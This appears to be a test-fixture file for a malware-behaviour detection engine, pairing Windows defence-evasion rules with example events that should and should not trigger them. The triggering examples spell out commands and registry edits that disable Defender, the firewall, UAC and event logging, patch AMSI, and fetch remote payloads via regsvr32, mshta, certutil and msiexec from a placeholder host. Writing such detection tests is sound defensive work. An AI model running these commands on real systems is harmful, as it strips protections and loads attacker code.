import {
  call,
  copy,
  type Example,
  type Examples,
  get,
  open,
  protect,
  remove,
  run,
  script,
  set,
  write,
} from '../worlds.js'

const defender = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'
const explorer = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced'
const userPolicies = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies'
const policies = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'
const encoded = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'

/** Command lines, one process each. */
const commands = (...lines: readonly string[]): readonly Example[] => lines.map((line) => [run(line)])

export const evasion: Examples = {
  evasion_defender_disabled: {
    fires: [
      [set(`${defender}\\DisableAntiSpyware`, '1')],
      [set(`${defender}\\Real-Time Protection\\DisableRealtimeMonitoring`, '0x00000001')],
    ],
    silent: [[set(`${defender}\\DisableAntiSpyware`, '0')], [get(`${defender}\\DisableAntiSpyware`)]],
  },
  evasion_defender_exclusion: {
    fires: [
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:', '0')],
      ...commands('powershell Add-MpPreference -ExclusionPath C:\\x'),
    ],
    silent: commands('powershell Get-MpPreference'),
  },
  evasion_defender_command: {
    fires: commands(
      'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
      'sc stop WinDefend',
      'MpCmdRun.exe -RemoveDefinitions -All',
    ),
    silent: commands('sc query WinDefend', 'powershell Set-MpPreference -DisableRealtimeMonitoring $false'),
  },
  evasion_firewall_disabled: {
    fires: [
      ...commands('netsh advfirewall set allprofiles state off', 'netsh firewall set opmode disable'),
      [
        set(
          'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile\\EnableFirewall',
          '0',
        ),
      ],
    ],
    silent: commands('netsh advfirewall show allprofiles', 'netsh advfirewall set allprofiles state on'),
  },
  evasion_firewall_rule: {
    fires: commands(
      'netsh advfirewall firewall add rule name=x dir=in action=allow program=C:\\x.exe',
      'netsh firewall add allowedprogram C:\\x.exe x ENABLE',
    ),
    silent: commands(
      'netsh advfirewall firewall show rule name=all',
      'netsh advfirewall firewall add rule name=x dir=out action=block',
    ),
  },
  evasion_uac_disabled: {
    fires: [[set(`${policies}\\EnableLUA`, '0')]],
    silent: [[set(`${policies}\\EnableLUA`, '1')]],
  },
  evasion_uac_bypass_registry: {
    fires: [[set('HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)', 'C:\\x.exe')]],
    silent: [[set('HKEY_CURRENT_USER\\Software\\Classes\\my-app\\shell\\open\\command\\(Default)', 'C:\\x.exe')]],
  },
  evasion_tools_disabled: {
    fires: [[set(`${policies}\\DisableTaskMgr`, '1')], [set(`${policies}\\DisableRegistryTools`, '0x00000002')]],
    silent: [[set(`${policies}\\DisableTaskMgr`, '0')]],
  },
  evasion_explorer_restricted: {
    fires: [[set(`${userPolicies}\\Explorer\\NoDrives`, '67108863')], [set(`${userPolicies}\\System\\NoAdminPage`)]],
    silent: [
      [set(`${userPolicies}\\Explorer\\NoDrives`, '0')],
      [set('HKEY_CURRENT_USER\\Software\\Editor\\NoDesktop')],
    ],
  },
  evasion_download_warnings: {
    fires: [
      [set(`${userPolicies}\\Associations\\LowRiskFileTypes`, '.exe')],
      [set(`${userPolicies}\\Attachments\\SaveZoneInformation`)],
      [set('HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Zones\\3\\1806', '0')],
    ],
    silent: [
      [set('HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Zones\\3\\1806', '3')],
      [set(`${userPolicies}\\Attachments\\SaveZoneInformation`, '2')],
    ],
  },
  evasion_hidden_files_setting: {
    fires: [
      [set(`${explorer}\\Hidden`, '2')],
      [set(`${explorer}\\HideFileExt`, '1')],
      [set(`${explorer}\\ShowSuperHidden`, '0')],
    ],
    silent: [[set(`${explorer}\\Hidden`, '1')], [set(`${explorer}\\HideFileExt`, '0')]],
  },
  evasion_attrib_hidden: { fires: commands('attrib +s +h C:\\x.exe'), silent: commands('attrib -h C:\\x.exe') },
  evasion_event_log_cleared: {
    fires: [...commands('wevtutil cl System', 'powershell Clear-EventLog -LogName Security'), [call('ClearEventLogW')]],
    silent: commands('wevtutil qe System'),
  },
  evasion_deletes_itself: {
    fires: commands(
      'cmd /c ping 127.0.0.1 -n 3 > nul & del C:\\x.exe',
      'cmd.exe /C timeout /t 5 && del /f /q "C:\\x.exe"',
    ),
    silent: commands('cmd /c del C:\\x.tmp', 'cmd /c ping 127.0.0.1'),
  },
  evasion_zone_identifier: { fires: [[remove('C:\\x.exe:Zone.Identifier')]], silent: [[remove('C:\\x.exe')]] },
  evasion_alternate_stream: {
    fires: [[write('C:\\x.txt:hidden.exe', 'MZ')]],
    silent: [[write('C:\\x.txt', 'MZ')], [write('C:\\x.txt:Zone.Identifier')]],
  },
  evasion_masquerades_as_windows: {
    fires: [[write('C:\\Users\\u\\AppData\\Roaming\\svchost.exe')], [copy('C:\\a.exe', 'C:\\Temp\\explorer.exe')]],
    silent: [
      [write('C:\\Windows\\System32\\svchost.exe')],
      [copy('C:\\Windows\\explorer.exe', 'C:\\Temp\\a.exe')],
      [write('C:\\Temp\\mysvchost.exe')],
    ],
  },
  evasion_updates_disabled: {
    fires: [
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU\\NoAutoUpdate', '1')],
      ...commands('sc config wuauserv start= disabled'),
    ],
    silent: commands('sc query wuauserv'),
  },
  evasion_safe_mode: { fires: commands('bcdedit /set {default} safeboot minimal'), silent: commands('bcdedit /enum') },
  evasion_amsi_patch: {
    fires: [
      [script('[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils")')],
      ...commands('powershell $x.GetField("amsiInitFailed")'),
    ],
    silent: [
      [protect(undefined, '0x40', 'kernel32.dll')],
      [protect(undefined, '0x04', 'amsi.dll')],
      [script('alert(1)')],
    ],
  },
  evasion_reads_ntdll: {
    fires: [[open('C:\\Windows\\System32\\ntdll.dll'), protect(undefined, '0x40')]],
    silent: [
      [open('C:\\Windows\\System32\\kernel32.dll'), protect(undefined, '0x40')],
      [open('C:\\Windows\\System32\\ntdll.dll')],
    ],
  },
  evasion_antivirus_stopped: {
    fires: commands('taskkill /f /im MsMpEng.exe', 'net stop SophosAgent', 'sc delete ekrn'),
    silent: commands('taskkill /f /im notepad.exe', 'tasklist'),
  },
  evasion_root_certificate: {
    fires: commands('certutil -addstore -f root C:\\x.cer'),
    silent: commands('certutil -store root', 'certutil -addstore my x.cer'),
  },
  evasion_powershell_encoded: {
    fires: commands(`powershell.exe -nop -enc ${encoded}`, `powershell -e ${encoded}`),
    silent: commands('powershell -ExecutionPolicy Bypass -File x.ps1', 'powershell -Command Get-Date'),
  },
  evasion_powershell_hidden: {
    fires: commands('powershell -WindowStyle Hidden -c x', 'powershell -w 1 x'),
    silent: commands('powershell -Command Get-Help'),
  },
  evasion_powershell_policy: {
    fires: commands('powershell -ep bypass x.ps1', 'powershell -ExecutionPolicy Unrestricted x'),
    silent: commands('powershell Get-ExecutionPolicy'),
  },
  evasion_rundll32_unusual: {
    fires: commands(
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x',
      'rundll32 C:\\Users\\u\\AppData\\Local\\Temp\\x.dll,Start',
    ),
    silent: commands('rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL'),
  },
  evasion_regsvr32_script: {
    fires: commands('regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll'),
    silent: commands('regsvr32 /s C:\\Windows\\System32\\x.ocx'),
  },
  evasion_mshta: {
    fires: commands('mshta http://x/y.hta', 'mshta.exe vbscript:Close(1)'),
    silent: commands('mshta.exe C:\\Program Files\\x\\help.hta'),
  },
  evasion_certutil: {
    fires: commands('certutil -urlcache -split -f http://x/y.exe', 'certutil.exe -decode a.txt b.exe'),
    silent: commands('certutil -hashfile a.txt'),
  },
  evasion_wmic_stylesheet: {
    fires: commands('wmic os get /format:"http://x/y.xsl"'),
    silent: commands('wmic os get caption /format:csv'),
  },
  evasion_installutil: {
    fires: commands(
      'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /U C:\\Users\\u\\AppData\\Local\\Temp\\x.dll',
    ),
    silent: commands('InstallUtil.exe "C:\\Program Files\\x.exe"'),
  },
  evasion_cmstp: { fires: commands('cmstp.exe /s C:\\x.inf'), silent: commands('cmstp.exe C:\\x.inf') },
  evasion_msiexec_remote: { fires: commands('msiexec /q /i http://x/y.msi'), silent: commands('msiexec /i C:\\y.msi') },
  evasion_odbcconf: { fires: commands('odbcconf /a {REGSVR C:\\x.dll}'), silent: commands('odbcconf /?') },
  evasion_critical_process: {
    fires: [
      [call('RtlSetProcessIsCritical')],
      [call('NtSetInformationProcess', { ProcessInformationClass: '0x0000001d' })],
    ],
    silent: [[call('NtSetInformationProcess', { ProcessInformationClass: '35' })]],
  },
  evasion_smartscreen_disabled: {
    fires: [
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\System\\EnableSmartScreen', '0')],
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\SmartScreenEnabled', 'Off')],
    ],
    silent: [[set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\System\\EnableSmartScreen', '1')]],
  },
}
